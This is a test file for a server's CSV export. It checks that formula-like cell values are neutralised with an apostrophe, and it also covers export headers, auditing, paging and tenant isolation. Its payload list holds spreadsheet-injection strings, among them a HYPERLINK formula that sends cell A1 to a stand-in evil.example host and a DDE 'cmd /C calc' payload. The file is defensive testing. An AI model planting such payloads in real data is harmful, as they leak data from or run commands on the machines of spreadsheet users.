import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { initSync, Model } from '@ironcalc/wasm';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostPartnerId } from '@hawser/server';
import { csvHead, csvRow } from '../../packages/express/src/http/csv.js';
import { addCalls } from '../billing/rig.js';
import { startHost, type Host } from '../support/host.js';
import { Partner } from '../support/partner.js';
import { awkwardText } from '../support/schema-arbitrary.js';
import { openTestDatabase, type TestDatabase } from '../support/test-database.js';

/*
 * Text of users and partners, as a spreadsheet takes it from an exported file: a formula could read
 * other cells and send them away.
 */

const number = 1;
const text = 2;
let sheet: Model;
let database: TestDatabase;
let host: Host;
let partner: Partner;

beforeAll(async () => {
  const module = readFileSync(fileURLToPath(import.meta.resolve('@ironcalc/wasm/wasm_bg.wasm')));
  initSync({ module });
  sheet = new Model('exports', 'en', 'UTC', 'en');
  database = await openTestDatabase();
  host = await startHost({ database: database.option });
  partner = await Partner.of(host);
});
afterAll(async () => {
  sheet.free();
  await host.close();
  await database.close();
});

function cellsOf(file: string): string[][] {
  return parse(file, { bom: true, record_delimiter: '\r\n' });
}

/** Types a text into a cell, as a spreadsheet does that opens a file. */
function typed(cell: string): { type: number; shown: string } {
  sheet.setUserInput(0, 1, 1, cell);
  return {
    type: sheet.getCellType(0, 1, 1),
    shown: sheet.getFormattedCellValue(0, 1, 1),
  };
}

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '"=1+1',
  '"",=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u2003\u3000+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＠SUM(1)',
  `=${'1+'.repeat(126)}1`,
];

it('knows formulas: without an apostrophe, they are run', () => {
  for (const formula of ['=1+1', '+1+1', '-1+1']) expect(typed(formula).type).toBe(number);
});

describe('a cell', () => {
  const column = [['cell']];

  it.each(formulas)('%j is text', (formula) => {
    const file = csvHead(column) + csvRow(column, { cell: formula });
    const [head, [cell = ''] = []] = cellsOf(file);
    expect(head).toEqual(['cell']);
    // What a formula begins with, after what a reader may drop.
    if (formula.startsWith('"')) expect(cell).toBe(formula);
    else expect(cell).toBe(`'${formula}`);
    expect(typed(cell).type).toBe(text);
  });

  it('of any text stays that text, in its column, and runs nothing', () => {
    const anyText = fc
      .oneof(
        awkwardText,
        fc.string({ unit: 'grapheme', maxLength: 255 }),
        fc.stringMatching(/^[\s"',;=+\-@\p{Cf}]{0,12}$/u),
      )
      .map((value) => Buffer.from(value).toString());
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 2, maxLength: 4 }), (values) => {
        const columns = values.map((_value, index) => ['row', `cell${index}`]);
        const cells = Object.fromEntries(values.map((value, index) => [`cell${index}`, value]));
        const file = csvHead(columns) + csvRow(columns, { row: cells });
        const [, row = [], ...rest] = cellsOf(file);
        expect(rest).toEqual([]);
        expect(
          row.map((cell, index) => (cell === `'${values[index]}` ? values[index] : cell)),
        ).toEqual(values);
        for (const cell of row)
          if (!cell.includes('\u0000') && /^[\s\p{Cf}]*[=+@-]/u.test(cell))
            expect(typed(cell).type).toBe(text);
      }),
      { numRuns: 500 },
    );
  });

  it('has nothing of an object that its own fields do not say', () => {
    expect(csvRow([['constructor'], ['a', 'toString'], ['b']], { a: {}, b: null })).toBe(
      '"","",""\r\n',
    );
    const values = { list: ['=1', '"'], count: 12, rate: 0.5, flag: false };
    expect(cellsOf(csvRow([['list'], ['count'], ['rate'], ['flag']], values))).toEqual([
      ['["=1","\\""]', '12', '0.5', 'false'],
    ]);
  });
});

describe('an export', () => {
  it('runs nothing, whatever accounts are called', async () => {
    const { hawser } = host;
    const names = ['=1+1', '+1', '-1+1', '@SUM(1)', "'=1", `=${'1'.repeat(254)}`, '"",=1+1'];
    for (const name of names) {
      const { id: account } = await hawser.accounts.ensure(hawser.hostScope, name);
      const at = new Date().toISOString();
      await addCalls(database.knex, { partnerId: hostPartnerId, account, calls: 2, failed: 1, at });
    }
    const response = await partner.fetch('/usage?group_by=account&format=csv&limit=0&cursor=none');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="usage-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [head, ...rows] = cellsOf(bytes.toString('utf8'));
    expect(head).toEqual([
      'name',
      'requests',
      'tool_executions',
      'errors',
      'error_rate',
      'account_id',
    ]);
    expect(rows).toHaveLength(names.length);
    for (const [name = '', ...counts] of rows) {
      expect(typed(name).type).toBe(text);
      expect(counts.slice(0, 4)).toEqual(['2', '0', '1', '0.5']);
    }
    expect(new Set(rows.map(([name = '']) => typed(name).shown))).toEqual(
      new Set(names.map((name) => (name.startsWith("'") ? name.slice(1) : name))),
    );
  });

  it('of the audit log runs nothing that a caller says about itself', async () => {
    const agent = '=HYPERLINK("https://evil.example","x")';
    await partner.fetch('/accounts', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'user-agent': agent },
      body: JSON.stringify({ external_id: 'of-an-agent' }),
    });
    const response = await partner.fetch('/audit?format=csv&action=account.created');
    expect(response.headers.get('content-disposition')).toContain('filename="audit-');
    const [head = [], ...rows] = cellsOf(await response.text());
    expect(head.slice(0, 6)).toEqual(['id', 'at', 'action', 'actor_type', 'actor_id', 'ip']);
    const agents = rows.map((row) => row[head.indexOf('user_agent')]);
    expect(agents).toContain(`'${agent}`);
  });

  it('of accounts and connections runs nothing, and has every page', async () => {
    const { hawser } = host;
    const { id: partnerId } = await hawser.partners.create({ companyName: 'Many' });
    const many = await Partner.of(host, undefined, 'live', partnerId);
    const tenant = { partnerId, mode: 'live' } as const;
    for (let index = 0; index < 205; index += 1) {
      const identifier = `=user-${index}`;
      await hawser.accounts.create(tenant, identifier, {
        displayName: index % 2 === 0 ? '+1"2,3' : '\u202e@evil',
        metadata: { note: '=1' },
      });
      await hawser.connections.create(tenant, {
        provider: index % 5 === 0 ? 'slack' : 'google',
        identifier,
      });
    }
    for (const [path, nested, count] of [
      ['/accounts?format=csv&limit=7', 'connections_total', 205],
      ['/connections?format=csv&limit=7&cursor=x', 'scopes_requested', 205],
      ['/connections?format=csv&provider=slack&sort=idle', 'settings_timeout', 41],
    ] as const) {
      const response = await many.fetch(path);
      expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="\w+-/);
      const [head = [], ...rows] = cellsOf(await response.text());
      expect(head[0]).toBe('id');
      expect(head).toContain(nested);
      expect(new Set(rows.map(([id]) => id)).size).toBe(count);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+@-]/u);
    }
    const audited = await many.call<object[]>('GET', '/audit?action=console.exported');
    expect(audited.data).toMatchObject([
      { details: { list: 'connections' } },
      { details: { list: 'connections' } },
      { details: { list: 'accounts' } },
    ]);
    const refused = await many.call('GET', '/connections?format=csv&q=a&sort=idle');
    expect([refused.status, refused.error.code]).toEqual([400, 'validation_failed']);
  });

  it('is audited before its first row is sent, and only then', async () => {
    const exports = async (): Promise<object[]> =>
      (await partner.call<object[]>('GET', '/audit?action=console.exported')).data;
    const before = (await exports()).length;
    expect((await partner.fetch('/usage?format=csv', { method: 'HEAD' })).status).toBe(200);
    expect(await exports()).toHaveLength(before);
    await partner.fetch('/usage?format=csv&group_by=day&split=provider');
    const after = await exports();
    expect(after).toHaveLength(before + 1);
    expect(after[0]).toMatchObject({
      actor: { type: 'key' },
      details: { list: 'usage' },
    });
  });

  it('that fails says so in the envelope, and not as a download', async () => {
    const response = await partner.fetch('/usage?format=csv&account=nobody');
    expect(response.status).toBe(404);
    expect(response.headers.get('content-type')).toContain('application/json');
    expect(response.headers.get('content-disposition')).toBeNull();
    const reader = await Partner.of(host, ['accounts:read']);
    for (const path of ['/usage?format=csv', '/audit?format=csv'])
      expect((await reader.fetch(path)).status).toBe(403);
    for (const query of ['format=csv&format=csv', 'format=xlsx', 'format=csv&who=me'])
      expect((await partner.fetch(`/usage?${query}`)).status).toBe(400);
  });

  it("has nothing of another partner's or another mode's", async () => {
    const { id } = await host.hawser.partners.create({ companyName: 'Other' });
    for (const stranger of [
      await Partner.of(host, undefined, 'live', id),
      await Partner.of(host, undefined, 'test'),
    ]) {
      const file = await (await stranger.fetch('/usage?group_by=account&format=csv')).text();
      expect(cellsOf(file)).toHaveLength(1);
    }
  });
});
